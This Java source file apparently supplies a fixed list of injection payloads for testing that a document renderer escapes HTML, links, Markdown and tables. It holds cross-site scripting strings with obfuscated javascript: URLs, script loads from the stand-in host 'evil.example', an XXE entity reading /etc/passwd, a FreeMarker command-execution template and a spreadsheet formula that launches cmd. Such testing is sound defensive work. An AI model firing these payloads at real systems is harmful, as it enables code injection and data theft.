package org.rapporteur.security;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;

/** Texts that would be executed as code if a page, link or table did not escape them. */
final class Payloads {

  private static final List<String> CALLS = List.of("alert(1)", "alert`1`", "top['al'+'ert'](1)");

  private Payloads() {}

  /** All payloads, always in the same order. */
  static List<String> all() {
    Set<String> all = new LinkedHashSet<>();
    all.addAll(elements());
    all.addAll(breakouts());
    all.addAll(addresses());
    all.addAll(markdown());
    all.addAll(others());
    return List.copyOf(all);
  }

  private static List<String> elements() {
    List<String> all = new ArrayList<>();
    for (String call : CALLS) {
      all.add("<script>" + call + "</script>");
      all.add("<ScRiPt >" + call + "</sCrIpT >");
      all.add("<img src=x onerror=" + call + ">");
      all.add("<svg/onload=" + call + ">");
    }
    for (String tag : List.of("body", "input", "video", "details", "marquee", "a", "iframe")) {
      all.add("<" + tag + " onload=alert(1) onfocus=alert(1) ontoggle=alert(1) autofocus open>");
      all.add("<" + tag + "\nonload\n=\nalert(1)\n>");
      all.add("<" + tag + "/x=\"<" + tag + "/onload=alert(1)//\">");
    }
    for (String close :
        List.of("title", "textarea", "style", "script", "noscript", "template", "p", "main")) {
      all.add("</" + close + "><script>alert(1)</script>");
      all.add("<" + close + "><a title=\"</" + close + "><img src=x onerror=alert(1)>\">");
    }
    all.addAll(
        List.of(
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<script src=//evil.example/x.js></script>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>",
            "<svg><style><a id=\"</style><img src=x onerror=alert(1)>\">",
            "<svg><use href=\"data:image/svg+xml,<svg id='x'/>#x\"/></svg>",
            "<form action=javascript:alert(1)><button formaction=javascript:alert(1)>",
            "<object data=javascript:alert(1)><embed src=javascript:alert(1)>",
            "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
            "<base href=//evil.example/><link rel=stylesheet href=//evil.example/x.css>",
            "<style>*{background:url(javascript:alert(1))}</style>",
            "<div style=\"position:fixed;background:url(x)\">",
            "<!--><script>alert(1)</script>-->",
            "--><script>alert(1)</script><!--",
            "<![CDATA[<script>alert(1)</script>]]>",
            "]]><script>alert(1)</script>",
            "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
            "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>&y;"));
    return all;
  }

  private static List<String> breakouts() {
    List<String> all = new ArrayList<>();
    for (String quote : List.of("\"", "'", "`", "&quot;", "&#34;", "&#x27;", "\\\"", "\u2019")) {
      all.add(quote + "><script>alert(1)</script>");
      all.add(quote + " onmouseover=" + quote + "alert(1)");
      all.add("[a](https://example.org/ " + quote + " onclick=alert(1) " + quote + ")");
      all.add("![" + quote + " onerror=" + quote + "alert(1)](x.png)");
    }
    return all;
  }

  /** Addresses whose schemes execute or carry code, disguised in many ways and in many places. */
  private static List<String> addresses() {
    List<String> disguised = new ArrayList<>();
    for (String scheme : List.of("javascript", "vbscript", "data")) {
      String rest = scheme.equals("data") ? "text/html,<script>alert(1)</script>" : "alert(1)";
      String firstPart = scheme.substring(0, 4);
      String secondPart = scheme.substring(4);
      String first = scheme.substring(0, 1);
      disguised.add(scheme + ":" + rest);
      disguised.add(firstPart.toUpperCase(java.util.Locale.ROOT) + secondPart + ":" + rest);
      for (String colon : List.of("&#58;", "&#x3a;", "&colon;", "&#0000058;", "%3A", "\uFF1A")) {
        disguised.add(scheme + colon + rest);
      }
      for (String joint :
          List.of(
              "&Tab;", "&NewLine;", "&#10;", "&#x9;", "\t", "\u0000", "\u200B", "\u00AD", "%09")) {
        disguised.add(firstPart + joint + secondPart + ":" + rest);
      }
      for (String before :
          List.of("\u0001", "&#1;", "\u00A0", "\uFEFF", "\u202E", "%20", "&nbsp;")) {
        disguised.add(before + scheme + ":" + rest);
      }
      disguised.add("%" + Integer.toHexString(first.charAt(0)) + scheme.substring(1) + ":" + rest);
      disguised.add("&#" + (int) first.charAt(0) + ";" + scheme.substring(1) + ":" + rest);
      disguised.add("feed:" + scheme + ":" + rest);
      disguised.add(scheme + "://example.org/%0Aalert(1)");
    }
    List<String> all = new ArrayList<>();
    for (int i = 0; i < disguised.size(); i++) {
      String address = disguised.get(i);
      all.add(address);
      all.add(
          switch (i % 5) {
            case 0 -> "[a](" + address + ")";
            case 1 -> "[a](<" + address + ">)";
            case 2 -> "<" + address + ">";
            case 3 -> "![a](<" + address + ">)";
            default -> "[a][x" + i + "]\n\n[x" + i + "]: <" + address + ">";
          });
    }
    return all;
  }

  private static List<String> markdown() {
    String script = "<script>alert(1)</script>";
    return List.of(
        "# " + script,
        "## A {#\"><script>alert(1)</script>}",
        "### A {#x onclick=alert(1)}",
        "~~~ \"><script>alert(1)</script>\nx\n~~~",
        "~~~ html\n</code></pre>" + script + "\n~~~",
        "`</code>" + script + "`",
        "x[^1]\n\n[^1]: " + script,
        "x[^\">]\n\n[^\">]: " + script,
        "|<b>|\"'|\n|-|:-:|\n|" + script + "|<i onclick=x>|",
        "XSS here\n\n*[XSS]: \"><script>alert(1)</script>",
        "Term\n: " + script,
        "[[de-1|" + script + "]]",
        "[[" + script + "]]",
        "[[de-1#\"><script>]]",
        "(a) " + script + "\n(b) \"><b>",
        "- " + script + "\n  > " + script,
        "<https://example.org/\"onclick=\"alert(1)>",
        "<x\"onclick=alert(1)@example.org>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "\\<script>alert(1)\\</script>");
  }

  private static List<String> others() {
    return List.of(
        "${7*7}<#assign x=1>[#assign y=2]#{7*7}",
        "{{7*7}}{% raw %}<%= 7*7 %>",
        "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
        "\u0001x\u0001y",
        "\\x1",
        "{0} {1} '{2}'",
        "=cmd|'/C calc'!A0",
        "+1+1",
        "-1+1",
        "@SUM(1+1)",
        "\t=1+1",
        "\n=1+1",
        "x,\"y\"\r\n=1+1",
        "\u2028alert(1)\u2029",
        "\u202Etxt.exe",
        "\u0000",
        "\u001B[31mred",
        "\uFFFE\uFFFF",
        "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E",
        "a\u0300\u0300\u0300",
        "__proto__",
        "constructor");
  }
}
